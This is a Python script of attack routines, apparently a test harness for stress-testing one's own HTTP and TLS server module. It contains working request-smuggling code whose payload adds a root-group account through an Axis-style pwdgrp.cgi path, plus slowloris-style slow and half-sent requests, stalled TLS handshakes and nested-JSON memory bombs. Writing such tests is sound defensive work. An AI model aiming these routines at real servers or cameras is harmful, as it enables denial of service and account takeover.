"""Strangers and viewers at their worst, each attack a function: for the tests, and by hand against
a module of one's own.

    python attacks.py NAME URL [--tls-port N] [--count N] [--addresses N]

It prints `attacking` when it has begun and ends when its input ends, or after --count tries; what
it prints then is JSON: tries, and the answers by status.
"""

import argparse
import collections
import contextlib
import itertools
import json
import os
import random
import select
import selectors
import socket
import ssl
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))  # when run by hand

from boards import STREAM, Credentials, receive, status_of  # noqa: E402

TRY_S = 1  # for one connection
SILENT = 150
DEAF_S = 2
SMUGGLED = (
    b"POST /axis-cgi/pwdgrp.cgi?action=add&user=evil&pwd=evilpass&grp=root&sgrp=admin"
    b" HTTP/1.1\r\nHost: a\r\nX-Eat: "
)
UPGRADE = (
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)


class Attack:
    """What attackers share: where the module is, when to end, what they have seen."""

    def __init__(self, host, port, tls_port=None, count=None, addresses=1):
        self.address = (host, port)
        self.url = "http://%s:%d" % (host, port)
        self.tls_address = (host, tls_port)
        self.limit = count
        self.addresses = addresses
        self.sources = itertools.count()
        self.ended = threading.Event()
        self.tries = itertools.count(1)
        self.tried = 0
        self.statuses = collections.Counter()
        self.threads = []

    def start(self, job, make=None):
        """Do a job again and again in a thread; make() gives what is the thread's own."""
        thread = threading.Thread(target=self._run, args=(job, make), daemon=True)
        self.threads.append(thread)
        thread.start()

    def _run(self, job, make):
        try:
            own = make() if make else None
            while not self.ended.is_set():
                self.tried = next(self.tries)
                if self.limit is not None and self.tried > self.limit:
                    break
                try:
                    job(self, own)
                except OSError:
                    self.statuses["refused"] += 1
                    self.ended.wait(0.01)
        finally:
            self.ended.set()

    def source(self):
        """The address to come from: one after the other of 127.0.0.100 and those after it."""
        return "127.0.0.%d" % (100 + next(self.sources) % self.addresses)

    def connect(self, tls=False):
        address = self.tls_address if tls else self.address
        return socket.create_connection(address, TRY_S, (self.source(), 0))

    def until_closed(self, sock, seconds=60):
        """Wait, and read nothing, until the module has closed."""
        hung_up = select.poll()
        hung_up.register(sock, select.POLLRDHUP)
        deadline = time.monotonic() + seconds
        while not self.ended.is_set() and time.monotonic() < deadline:
            if hung_up.poll(100):
                self.statuses["closed"] += 1
                return

    def note(self, answer):
        self.statuses[str(status_of(answer))] += 1

    def report(self):
        return {"tries": self.tried, "statuses": self.statuses}


# -- bytes that are to cross to another connection ------------------------------------------------


def smuggle(attack):
    """Behind a request whose answer is made in pieces, by a stream or at once, half of another
    follows: it is to be taken for the beginning of what somebody else sends next.
    """
    for seed in range(4):
        attack.start(_smuggle, lambda seed=seed: (_guest(attack), random.Random(seed)))


def _guest(attack):
    return Credentials(attack.url, "guest")


def _smuggle(attack, own):
    guest, dice = own
    bearer = "Authorization: Bearer reader\r\n"
    method, target, more = dice.choice(
        (
            ("GET", "/v1/service/s/heartbeats", bearer),
            ("GET", "/holdfast/page.js", ""),
            ("GET", "/holdfast/status", None),
            ("GET", "/holdfast/log", None),
            ("GET", "/axis-cgi/param.cgi?action=list", None),
            ("GET", "/axis-cgi/io/port.cgi?monitor=1,2", None),
            ("GET", STREAM, None),
            ("GET", "/nowhere", ""),
        )
    )
    if more is None:
        more = "Authorization: %s\r\n" % guest.header(method, target)
    if target == STREAM:
        more += UPGRADE
    head = "%s %s HTTP/1.1\r\nHost: a\r\n%s\r\n" % (method, target, more)
    tail = SMUGGLED[: dice.randint(1, len(SMUGGLED))] if dice.randrange(2) else SMUGGLED
    if target == STREAM:
        tail = b"\x81\xfe" + tail[:6]  # half a message
    with attack.connect() as sock:
        sock.sendall(head.encode() + tail)
        # Either it looks at the answer, or it leaves in the middle of it.
        enough = dice.choice((1, 200, 1 << 20))
        attack.note(receive(sock, dice.choice((0.002, 0.05)), lambda data: len(data) >= enough))


# -- places and memory ----------------------------------------------------------------------------


def silent(attack):
    """150 connections that say nothing, and come again as soon as they are closed."""
    attack.start(_hold_many)


def _hold_many(attack, _):
    poll = selectors.DefaultSelector()
    held = 0
    try:
        while not attack.ended.is_set():
            while held < SILENT and not attack.ended.is_set():
                sock = socket.socket()
                sock.bind((attack.source(), 0))
                sock.setblocking(False)
                sock.connect_ex(attack.address)
                poll.register(sock, selectors.EVENT_READ)
                held += 1
            for key, _ in poll.select(0.1):
                poll.unregister(key.fileobj)
                key.fileobj.close()
                held -= 1
                attack.statuses["closed"] += 1
    finally:
        for key in list(poll.get_map().values()):
            key.fileobj.close()
        poll.close()


def hasty(attack):
    """Six threads that connect, ask and go."""
    for _ in range(6):
        attack.start(_ask)


def _ask(attack, _):
    with attack.connect() as sock:
        sock.sendall(b"GET /nowhere HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        attack.note(receive(sock, TRY_S, lambda data: b"\r\n\r\n" in data))


def deaf(attack):
    """Three that ask for the page and read nothing of it."""
    for _ in range(3):
        attack.start(_ask_for_page)


def _ask_for_page(attack, _):
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2304)
        sock.settimeout(TRY_S)
        sock.bind((attack.source(), 0))
        sock.connect(attack.address)
        sock.sendall(b"GET /holdfast/page.js HTTP/1.1\r\nHost: a\r\n\r\n")
        # An end that comes behind what it does not read it does not see.
        attack.until_closed(sock, DEAF_S)


def hello(attack):
    """Two that begin a handshake at the TLS port with one byte and wait."""
    for _ in range(2):
        attack.start(_begin_handshake)


def _begin_handshake(attack, _):
    with attack.connect(tls=True) as sock:
        sock.sendall(b"\x16")
        attack.until_closed(sock)


def shake(attack):
    """Two that say all of their hello, a real one, and nothing more."""
    for _ in range(2):
        attack.start(_say_hello)


def _say_hello(attack, _):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    said = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        said.do_handshake()
    with attack.connect(tls=True) as sock:
        sock.sendall(outgoing.read())
        attack.until_closed(sock)


def half(attack):
    """Ten that send half a request and wait."""
    for _ in range(10):
        attack.start(_say_half)


def _say_half(attack, _):
    with attack.connect() as sock:
        sock.sendall(b"POST /vapix/axhbt HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1500)
        attack.until_closed(sock)


def drip(attack):
    """Ten that send a request byte by byte."""
    for _ in range(10):
        attack.start(_drip)


def _drip(attack, _):
    with attack.connect() as sock:
        sock.sendall(b"POST /vapix/axhbt HTTP/1.1\r\nHost: a\r\nX: ")
        while not attack.ended.wait(0.02):
            sock.sendall(b"x")


BOMBS = (b"[" + b"[]," * 1360 + b"[]]", b"[" + b'{"a":{}},' * 450 + b"1]", b"[" * 4000)


def bomb(attack):
    """Three that send JSON which takes a multiple of its length in memory."""
    for body in BOMBS:
        attack.start(_send, lambda body=body: body)


def _send(attack, body):
    head = b"POST /axis-cgi/systemready.cgi HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n"
    with attack.connect() as sock:
        sock.sendall(head % len(body) + body)
        attack.note(receive(sock, TRY_S, lambda data: b"\r\n\r\n" in data))


ATTACKS = {
    job.__name__: job for job in (smuggle, silent, hasty, deaf, hello, shake, half, drip, bomb)
}


def main(arguments=None):
    parser = argparse.ArgumentParser(description="Attack a module of one's own.")
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("url")
    parser.add_argument("--tls-port", type=int)
    parser.add_argument("--count", type=int)
    parser.add_argument("--addresses", type=int, default=1, help="so many of 127.0.0.0/8")
    options = parser.parse_args(arguments)
    place = urlsplit(options.url)
    attack = Attack(
        place.hostname, place.port or 80, options.tls_port, options.count, options.addresses
    )
    ATTACKS[options.name](attack)
    print("attacking", flush=True)

    def watch():
        while os.read(0, 100):
            pass
        attack.ended.set()

    threading.Thread(target=watch, daemon=True).start()
    attack.ended.wait()
    for thread in attack.threads:
        with contextlib.suppress(RuntimeError):
            thread.join(2 * TRY_S)
    print(json.dumps(attack.report()), flush=True)


if __name__ == "__main__":
    main()
